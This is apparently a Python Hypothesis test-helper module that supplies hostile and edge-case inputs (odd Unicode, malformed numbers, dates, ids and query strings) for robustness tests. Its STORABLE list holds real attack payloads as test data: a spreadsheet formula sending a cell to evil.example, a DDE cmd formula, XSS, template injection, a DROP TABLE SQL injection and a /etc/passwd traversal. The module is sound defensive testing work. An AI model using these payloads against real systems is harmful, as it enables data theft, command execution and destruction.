"""What people, programs and attackers send: odd but storable texts, texts nobody can store, and what is no number,
no date and no id. How many of them are tried is set by HOSTILE (docs/how-to/hostile-input.md)."""

import os
from typing import Any

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

# As many examples an address; 0 is what every test run tries, whose time is short. `make hostile` tries many.
MANY = int(os.environ.get("HOSTILE", "0"))

settings.register_profile("hostile-few", max_examples=2, derandomize=True, phases=[Phase.generate])
settings.register_profile("hostile-many", max_examples=MANY or 1, phases=[Phase.explicit, Phase.generate])
PROFILE = settings(
    settings.get_profile("hostile-many" if MANY else "hostile-few"),
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)

# Every database keeps these; each is a text somebody may have a reason to write, or a formula for who exports it.
STORABLE = [
    "\ufeff前有字节序标记",
    "零\u200b宽\u200c连\u200d接\u2060",
    "\u202e反向文字\u202c，\u2067隔离\u2069",
    "e\u0301o\u0308\u0323组合" + "\u0301" * 60,
    "𠮷野家𪚥𫝀𰻞",
    "😀👨‍👩‍👧‍👦🇨🇳",
    "مرحبا שלום",
    "１２３４５ ٣٤٥ ๑๒๓ ²½Ⅷ",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "-2+3",
    "\t=1+1",
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}{{ request.user }}%(name)s{0.__class__}",
    "'; DROP TABLE demands_case; --",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\x01\x02\x08\x1b[31m\x7f控制",
    "\ue000\ufffd\ufffe\uffff\U0010ffff",
    "ﷺ" * 30,
    "ß ŉ İ ı ﬀ",
    "null None undefined NaN true",
    "../../etc/passwd\\..\\",
    "\u3000\u3000全角空格\u00a0",
]
UNSTORABLE = ["\x00", "甲\x00乙\x00"]
LONG = "长" * 200_000
NUMBERS = [
    *("0", "-1", str(2**31 - 1), str(2**31), str(2**63), str(-(2**63) - 1), "9" * 5000, "1e400", "-0", "0x10"),
    *("NaN", "Infinity", "1_000", "1,000", "٣", "３", "²", "½", "1.5", " 1 ", "+1", "1\x00"),
]
DATES = [
    *("0000-00-00", "99999-01-01", "2026-02-29", "2024-02-29", "2026-02-30", "0001-01-01", "9999-12-31"),
    *("９９９９-12-31", "٢٠٢٦-١١-٢٦", "2026-13-01", "-2026-01-01", "2026-11-26T25:61", "9999-12-31T23:59:59"),
    *("0001-01-01T00:00", "0000-00-00T00:00", "2026-11-23T10:30+99:99", "2026年02月30日", "now", "1e9"),
]
NO_IDS = [
    *("x", "0", "-1", "00000000-0000-0000-0000-000000000000", "{}", "[]", "01234567-89ab-4def-8123-456789abcdef" * 2),
    *("{01234567-89ab-4def-8123-456789abcdef}", "０１２", "\x00", "1 OR 1=1", "urn:uuid:x", "ENERGY\x00", "𠮷"),
]
# A text that anybody can write anywhere, to fill what is not tried just now.
PLAIN = "现场核对过材料，情况属实。"

NASTY = [*STORABLE, *UNSTORABLE, *NUMBERS, *DATES, *NO_IDS, ""]
ANY_TEXT = st.text(st.characters(categories=["L", "N", "P", "S", "Z", "Cc", "Cf", "Co", "Cn"]), max_size=80)
TEXTS = st.sampled_from(NASTY) | ANY_TEXT

LEAVES = st.none() | st.booleans() | st.integers() | st.floats() | TEXTS | st.sampled_from(["\ud800", "\udc00乙"])


def json_values() -> st.SearchStrategy[Any]:
    """Anything JSON can say, lone surrogates among it."""
    return st.recursive(
        LEAVES, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3), max_leaves=6
    )


# Query strings as they come over the wire: cut escapes, bytes that are no UTF-8, lone surrogates, far too much.
ODD_QUERIES = [
    "%00", "%ED%A0%80", "%C0%AF", "%FF%FE", "%E4%BD", "%F4%90%80%80", "%u4f60", "%", "&&==&", "gAAAAAB%3D", "%0d%0aX:1",
]  # fmt: skip
